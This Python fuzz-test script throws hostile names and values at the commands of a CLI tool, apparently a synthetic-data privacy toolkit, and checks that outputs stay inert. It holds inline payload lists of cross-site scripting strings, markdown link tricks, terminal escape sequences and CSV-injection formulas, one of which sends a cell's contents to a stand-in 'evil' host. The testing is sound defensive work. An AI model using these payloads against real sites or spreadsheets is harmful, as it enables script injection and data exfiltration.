"""Throw hostile names and values at every ``capkit`` command and format, and check that nothing
is overwritten, nothing executes and nothing acts on a terminal (docs/safe-outputs.md).

Run it on its own, with a seed and a budget of cases::

    python tests/fuzz/fuzz_cli.py --seed 7 --cases 200 [--keep FOLDER]

Each case is drawn from the seed: a command (report, disclosure, cap, attack, membership,
sdc), a format (text, markdown, json, html), column names, values and file names drawn from the
payload lists below (OWASP's cheat sheets for cross-site scripting and CSV injection, markdown
link and image tricks, terminal escape sequences), the data written as Parquet (every character
kept), and the outputs a user may ask for (``-o``, ``--records``, ``--plot``, sometimes
``--no-escape-formulas``). The checks:

* every input file has the same SHA-256 after the run as before;
* the command ends with status 0 or with one ``Error:`` line (status 1), never a traceback;
* text output, markdown, html, json and what is printed on stdout/stderr hold no raw control
  character (C0 but the line feed, DEL, C1, the Unicode bidirectional controls);
* markdown rendered by Python-Markdown (mkdocs' renderer) and by markdown-it (CommonMark) and
  the html page hold no element beyond capkit's own, no event handler attribute and no
  ``javascript:`` / ``vbscript:`` / ``data:text/html`` address;
* json parses;
* a CSV file capkit writes holds no text cell starting with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return, unless ``--no-escape-formulas`` was given; ``sdc`` (whose output keeps
  the data as it was) warns when it wrote such cells.

tests/fuzz/test_fuzz_cli.py runs a few fixed-seed cases in the normal test suite.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import shutil
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd

# ------------------------------------------------------------------ payloads (inline)

#: OWASP, "XSS Filter Evasion Cheat Sheet" and "Cross Site Scripting Prevention Cheat Sheet":
#: tags, event handlers, breaking out of attributes, comments and CDATA, encoded addresses, a
#: polyglot.
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>", "<object data=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<!--<img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "<style>@import'javascript:alert(1)'</style>", "<base href=javascript:alert(1)//>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<meta http-equiv=refresh content=0;url=evil>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
]

#: Markdown's links, images, autolinks, reference definitions, attribute lists, raw HTML
#: blocks, and the punctuation that makes tables, code, emphasis, headings and quotes.
MARKDOWN = [
    "[a](javascript:alert(1))", "![a](javascript:alert(1))", "[a](javascript&#58;alert(1))",
    "<javascript:alert(1)>", "[a]: javascript:alert(1)", "![a](x\"onerror=\"alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))", "a|b|c", "| x | y |", "`code`", "```", "**bold**", "# heading",
    "- item", "> quote", "\\", "[a][b]", "<http://evil.example>", "~~s~~", "{: onclick=alert(1)}",
    "*[HTML]: abbr", "<div onclick=alert(1)>", "1. one", "===", "---", "_x_",
]

#: OWASP, "CSV Injection": cells a spreadsheet runs as formulas.
CSV = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=cmd|' /C notepad'!'A1'", "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "-1",
    "+1", "@x",
]

#: Terminal control: clearing the screen, moving the cursor, the window title, hyperlinks
#: (OSC 8), colours, carriage return and backspace over text, C1 controls, a device status
#: request, bidirectional overrides, separators.
TERMINAL = [
    "\x1b[2J\x1b[HALL CLEAR", "\x1b]0;pwned\x07", "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m", "ok\rFAKE", "abc\x08\x08\x08xyz", "\x9b2J", "\x07bell", "a\x00b",
    "a\u202eb", "line\u2028sep", "\x1bP+q\x1b\\", "\x1b[6n", "del\x7f", "tab\there",
    "new\nline", "\x85next",
]

PAYLOADS = {"html": HTML, "markdown": MARKDOWN, "csv": CSV, "terminal": TERMINAL}

#: Control characters that must never be written raw: C0 (but the line feed), DEL, C1, the
#: bidirectional controls and the line/paragraph separators.
HIDDEN = ({chr(c) for c in [*range(0, 10), *range(11, 32), *range(0x7F, 0xA0)]}
          | {"\u061c", "\u200e", "\u200f", "\u2028", "\u2029", *map(chr, range(0x202A, 0x202F)),
             *map(chr, range(0x2066, 0x206A))})

#: Elements capkit's own outputs hold: its html page (with matplotlib's SVG pictures), and
#: what markdown renderers make of its markdown.
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "pre", "code",
    "section", "div", "ul", "li", "table", "caption", "thead", "tbody", "tr", "th", "td",
    "figure", "figcaption", "img", "strong", "em", "hr", "br",
    "svg", "g", "defs", "path", "use", "clippath", "rect", "text", "tspan", "image", "circle",
    "line", "polyline", "polygon", "lineargradient", "stop", "mask", "pattern", "symbol",
}
ACTIVE_ADDRESSES = ("javascript:", "vbscript:", "data:text/html")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------ checks


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]


def active_content(html: str) -> list[str]:
    """What in an HTML text could act: an element capkit never writes, an event handler, an
    active address (a picture's ``data:image`` is inert)."""
    parser = _Elements()
    parser.feed(html)
    found = [f"element <{t}>" for t in sorted(set(parser.tags) - ALLOWED_TAGS)]
    found += [f"attribute {k}= on <{t}>" for t, k, _ in parser.attrs if k.lower().startswith("on")]
    for tag, key, value in parser.attrs:
        squashed = "".join(value.lower().split())
        if any(a in squashed for a in ACTIVE_ADDRESSES):
            found.append(f"address {value[:60]!r} in {key}= of <{tag}>")
        if tag == "img" and key == "src" and not value.startswith("data:image/svg+xml;base64,"):
            found.append(f"picture source {value[:60]!r}")
    return found


def raw_controls(text: str) -> list[str]:
    """The control characters ``text`` holds raw (each once)."""
    return sorted({repr(c) for c in text if c in HIDDEN})


def rendered_markdown(text: str) -> list[str]:
    """``text`` rendered by Python-Markdown (as mkdocs, with its tables, fenced code and
    attribute lists) and by markdown-it (CommonMark with tables)."""
    import markdown
    from markdown_it import MarkdownIt

    return [markdown.markdown(text, extensions=["tables", "fenced_code", "attr_list",
                                                "abbr"]),
            MarkdownIt("commonmark").enable("table").render(text)]


def formula_cells(path: Path) -> list[str]:
    """The text cells of a CSV file that start with a formula character (numbers such as -3
    are numbers, not formulas); a file that does not parse (a cell spilt over rows) is a
    problem too."""
    try:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    except (pd.errors.ParserError, ValueError) as exc:
        return [f"(the file does not parse as CSV: {exc})"]
    cells = [str(c) for c in frame.columns] + [v for c in frame.columns for v in frame[c]]
    out = []
    for cell in cells:
        if cell.startswith(FORMULA_START):
            try:
                float(cell)
            except ValueError:
                out.append(cell)
    return out


def check_output(fmt: str, text: str) -> list[str]:
    """The problems of one report in format ``fmt``."""
    problems = [f"{fmt}: raw control characters {c}" for c in [raw_controls(text)] if c]
    if fmt == "markdown":
        for html in rendered_markdown(text):
            problems += [f"markdown renders {a}" for a in active_content(html)]
    elif fmt == "html":
        problems += [f"html holds {a}" for a in active_content(text)]
    elif fmt == "json":
        try:
            json.loads(text)
        except ValueError as exc:
            problems.append(f"json does not parse: {exc}")
    return problems


# ------------------------------------------------------------------ cases


def _unusable_name(text: str) -> bool:
    """Whether a column name cannot be passed in --keys/--targets (a comma-separated list, each
    name stripped) or through a command line (NUL)."""
    return "," in text or text != text.strip() or not text or "\x00" in text


def _file_name(text: str) -> str:
    """A payload as a file name: no folder separator, no NUL, no glob character."""
    cleaned = "".join(c for c in text if c not in "/\x00*?[]")[:80]
    return cleaned or "x"


@dataclass
class Case:
    """One run: the command line (with placeholders resolved), the files it reads and writes."""

    seed: int
    command: str
    fmt: str
    args: list[str]
    inputs: list[Path]
    outputs: dict[str, Path] = field(default_factory=dict)
    escape_formulas: bool = True
    kinds: tuple[str, ...] = ()


FORMATS = ("text", "markdown", "json", "html")
COMMANDS = ("report", "disclosure", "cap", "attack", "membership", "sdc")


def _pick(rng: np.random.Generator, pool: list[str], k: int) -> list[str]:
    return [pool[i] for i in rng.choice(len(pool), size=k, replace=False)]


def make_case(seed: int, folder: Path, command: str | None = None) -> Case:
    """The case of ``seed``: data, names and options drawn from the payloads, files written
    into ``folder``."""
    rng = np.random.default_rng(seed)
    command = command or COMMANDS[int(rng.integers(len(COMMANDS)))]
    fmt = FORMATS[int(rng.integers(len(FORMATS)))]
    kinds = tuple(_pick(rng, list(PAYLOADS), 2))
    pool = [p for kind in kinds for p in PAYLOADS[kind]]
    names_pool = [p for p in pool if not _unusable_name(p)]
    names = list(dict.fromkeys(_pick(rng, names_pool, min(3, len(names_pool)))))
    while len(names) < 3:
        names.append(f"col{len(names)}")
    key1, key2, target = names
    n = 120
    columns = {}
    for j, name in enumerate(names):
        levels = _pick(rng, pool, 3 if j < 2 else 4)
        columns[name] = rng.choice(levels, n)
    columns["number"] = rng.integers(0, 30, n)
    frames = {role: pd.DataFrame(columns).sample(frac=1, random_state=k).reset_index(drop=True)
              for k, role in enumerate(("orig", "syn", "hold"))}
    frames["syn"].iloc[: n // 3] = frames["orig"].iloc[: n // 3].to_numpy()  # some copies
    stem = _file_name(pool[int(rng.integers(len(pool)))])
    paths = {}
    for role, frame in frames.items():
        paths[role] = folder / f"{stem} {role}.parquet"
        frame.to_parquet(paths[role], index=False)
    o, s, h = (str(paths[r]) for r in ("orig", "syn", "hold"))
    out_name = _file_name(pool[int(rng.integers(len(pool)))])
    suffix = {"text": "txt", "markdown": "md"}.get(fmt, fmt)
    outputs = {"--output": folder / f"{out_name} out.{suffix}"}
    keys = f"{key1},{key2}"
    escape = bool(rng.random() < 0.8)
    if command == "report":
        args = ["report", o, s, "--keys", keys, "--targets", target, "--family",
                "synthpop measures", "--show-values", "--seed", str(seed)]
        if rng.random() < 0.5:
            args += ["--holdout", h]
        outputs["--records"] = folder / f"{out_name} records.csv"
    elif command == "disclosure":
        args = ["disclosure", o, s, "--keys", keys, "--targets", target]
        if rng.random() < 0.3:
            outputs["--plot"] = folder / "plot.svg"
    elif command == "cap":
        args = ["cap", o, s, "--keys", keys, "--targets", target]
        outputs["--records"] = folder / f"{out_name} records.csv"
    elif command == "attack":
        args = ["attack", o, s, "--keys", keys, "--targets", target, "--attackers", "cap",
                "--seed", str(seed)]
    elif command == "membership":
        args = ["membership", o, s, "--holdout", h, "--attacks", "dcr", "--allow-overlap",
                "--seed", str(seed)]
    else:
        fmt = "text"
        outputs = {"--output": folder / f"{out_name} treated.csv"}
        args = ["sdc", o, s, "--keys", keys, "--rm-replicated-uniques"]
    if command != "sdc":
        args += ["--format", fmt, "-q"]
    if "--records" in outputs and not escape:
        args.append("--no-escape-formulas")
    for option, path in outputs.items():
        args += [option, str(path)]
    return Case(seed, command, fmt, args, [paths["orig"], paths["syn"], paths["hold"]],
                outputs, escape, kinds)


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_case(case: Case) -> list[str]:
    """Run one case in this process and return its problems (empty: all checks pass)."""
    from click.testing import CliRunner

    from capkit.cli import main

    before = {p: _digest(p) for p in case.inputs}
    # color=True: click would strip ANSI sequences from what it echoes to a non-terminal
    result = CliRunner().invoke(main, case.args, color=True)
    problems = [f"input {p.name!r} changed" for p in case.inputs if _digest(p) != before[p]]
    if result.exit_code not in (0, 1) or (
            result.exception is not None and not isinstance(result.exception, SystemExit)):
        problems.append(f"exit {result.exit_code}: {type(result.exception).__name__}: "
                        f"{result.exception!r}"[:300])
        return problems
    problems += [f"stdout: raw control characters {c}" for c in [raw_controls(result.stdout)]
                 if c]
    problems += [f"stderr: raw control characters {c}" for c in [raw_controls(result.stderr)]
                 if c]
    if result.exit_code == 1:
        if not result.output.startswith("Error: "):
            problems.append(f"status 1 without an Error: line: {result.output[:200]!r}")
        return problems
    out = case.outputs["--output"]
    if case.command == "sdc":
        try:
            written = pd.read_csv(out, dtype=str, keep_default_na=False)
        except (pd.errors.ParserError, ValueError) as exc:
            return [*problems, f"sdc's CSV does not parse: {exc}"]
        if len(written) != len(pd.read_parquet(case.inputs[1])) - _removed(result.stdout):
            problems.append("sdc's CSV does not hold the rows it kept")
        cells = [v for c in written.columns for v in written[c]] + list(written.columns)
        if any(str(v).startswith(FORMULA_START) for v in cells) and "formulas" not in \
                result.stderr:
            problems.append("sdc wrote formula cells without a warning")
        return problems
    problems += check_output(case.fmt, out.read_text(encoding="utf-8"))
    records = case.outputs.get("--records")
    if records is not None and records.exists() and case.escape_formulas:
        problems += [f"--records cell {c[:40]!r} starts a formula"
                     for c in formula_cells(records)[:3]]
    return problems


def _removed(summary: str) -> int:
    """The rows sdc says it removed."""
    import re

    found = re.search(r"records: \d+ -> \d+ \((\d+) removed\)", summary)
    return int(found.group(1)) if found else 0


def cases(seed: int, budget: int, folder: Path) -> Iterator[tuple[Case, list[str]]]:
    """``budget`` cases drawn from ``seed`` (case j from seed * 100003 + j), each run in a
    folder of its own under ``folder``, the commands taken in turn."""
    for j in range(budget):
        where = folder / f"case{j}"
        where.mkdir(parents=True, exist_ok=True)
        case = make_case(seed * 100003 + j, where, COMMANDS[j % len(COMMANDS)])
        try:
            problems = run_case(case)
        except Exception as exc:  # noqa: BLE001 - a check that cannot run is a failure
            problems = [f"the checks failed: {type(exc).__name__}: {exc}"[:300]]
        yield case, problems


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--cases", type=int, default=60)
    parser.add_argument("--keep", type=Path, default=None,
                        help="Write the cases' files here and keep them (default: a temporary "
                             "folder, removed).")
    ns = parser.parse_args(argv)
    folder = ns.keep or Path(tempfile.mkdtemp(prefix="capkit-fuzz-"))
    failed = 0
    try:
        for case, problems in cases(ns.seed, ns.cases, folder):
            status = "ok" if not problems else "FAIL"
            print(f"{status:4} seed {case.seed} {case.command} {case.fmt} "
                  f"({', '.join(case.kinds)})")
            for p in problems:
                print(f"     {p}")
            failed += bool(problems)
    finally:
        if ns.keep is None:
            shutil.rmtree(folder, ignore_errors=True)
    print(f"{ns.cases} cases, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
